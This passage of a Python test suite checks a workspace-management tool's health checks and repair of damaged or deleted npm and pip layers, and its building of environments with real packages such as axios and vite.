    node.env["PATH"] = f"{template[0]}:{PATH}"
    node.env["UV_DEFAULT_INDEX"] = index.url
    config = node.store / "config.yaml"
    before = config.read_text() if config.exists() else None

    def serve(is_automatic):
        config.write_text(f"workspaces:\n  auto_repair: {is_automatic}\n")
        assert node("serve", "--stop", "--force", timeout=60).returncode == 0

    def ask(*words, code=0):
        at = words.index("--") if "--" in words else len(words)
        done = node(*words[:at], "-o", "json", *words[at:], timeout=180)
        assert done.returncode == code, (done.stdout, done.stderr)
        return json.loads(done.stdout)

    def runs():
        done = node("exec", "patient", "--", "sh", "-c", "node -p \"require('one')\" && python -c 'import mend_like; print(mend_like.X)'", timeout=180)
        assert done.stdout.split() == ["one", "two", "1"], (done.stdout, done.stderr)

    def refused(layer, how):
        error = ask("exec", "patient", "--", "true", code=125)["error"]
        assert f"layer '{layer}' is {how}" in error["message"] and "carrel repair patient" in error["hint"], error

    try:
        serve("false")
        assert node("create", "patient", "--npm", "one", "--pip", "mend-like", timeout=180).returncode == 0
        shown = ask("info", "patient")
        found = ask("health", "--deep", "patient")
        assert found["healthy"] and found["node_environment"] == shown["node_environment"], found
        for kind, pattern in (("node_environment", "tree/one/index.js"), ("environment", "tree/lib/python3*/site-packages/mend_like.py")):
            assert node("suspend", "patient").returncode == 0
            [path] = [path for layer in ask("env", "show", shown[kind])["layers"] for path in (node.store / "layers" / layer).glob(pattern)]
            layer = path.relative_to(node.store / "layers").parts[0]
            path.chmod(0o644)
            path.write_text("X = 7\n")
            assert path.name in " ".join(ask("health", "--deep", "patient", code=1)["issues"])
            refused(layer, "damaged")
            done = ask("repair", "patient")
            assert f"built environment '{shown[kind]}' again" in done["done"] and done["failed"] == [], done
            runs()
            assert node("suspend", "patient").returncode == 0
            shutil.rmtree(node.store / "layers" / layer)
            refused(layer, "missing")
        done = ask("repair", "patient")     # the last one
        assert done["health"]["healthy"], done
        assert node("exec", "patient", "--", "rm", "-r", "node_modules/one", "node_modules/two/index.js").returncode == 0
        assert ask("health", "patient", code=1)["issues"] == ["Node package 'one' is not installed"]
        assert ask("repair", "patient")["done"] == ["restored 'one' from its layer"]
        assert node("exec", "patient", "--", "ls", "node_modules/one/index.js").returncode == 0
        # Also when all of them are gone.
        assert node("exec", "patient", "--", "sh", "-c", "rm -rf node_modules/* node_modules/.bin; rm -f package.json").returncode == 0
        assert "Node package 'one' is not installed" in ask("health", "patient", code=1)["issues"]
        assert ask("repair", "patient")["health"]["healthy"]
        serve("true")
        for layer in (path for kind in ("node_environment", "environment") for path in ask("env", "show", shown[kind])["layers"][:1]):
            shutil.rmtree(node.store / "layers" / layer)
        assert node("exec", "patient", "--", "python", "-c", "import mend_like", timeout=180).returncode == 0
        assert ask("health", "--deep", "patient")["healthy"]
    finally:
        node("rm", "patient", timeout=60)
        config.unlink()
        if before is not None:
            config.write_text(before)
        node("serve", "--stop", "--force", timeout=60)


@once
@shipped
def test_real_packages(node_home, registry):
    real = Nodes(node_home, registry)
    real.env["npm_config_registry"] = configured_registry()
    found = real.build("real", "--npm", "axios", "--npm", "docx", "--npm", "typescript@5", "--npm", "vite", timeout=300)
    assert found["installed_packages"].keys() >= {"axios", "docx", "typescript", "vite", "esbuild"} or "vite" in found["installed_packages"]
    script = ("const {Document, Packer, Paragraph} = require('docx');"
              "Packer.toBuffer(new Document({sections: [{children: [new Paragraph('x')]}]})).then(b => console.log(b.length > 1000, typeof require('axios').get))")
    assert real.node("--env", "real", script=script) == "true function\n"
    done = real.run("--env", "real", "--", "sh", "-c", "echo 'let x: number = 1' > a.ts && tsc a.ts && cat a.js && vite --version", timeout=120)
    assert done.returncode == 0 and "x = 1" in done.stdout and "vite/" in done.stdout, (done.stdout, done.stderr)
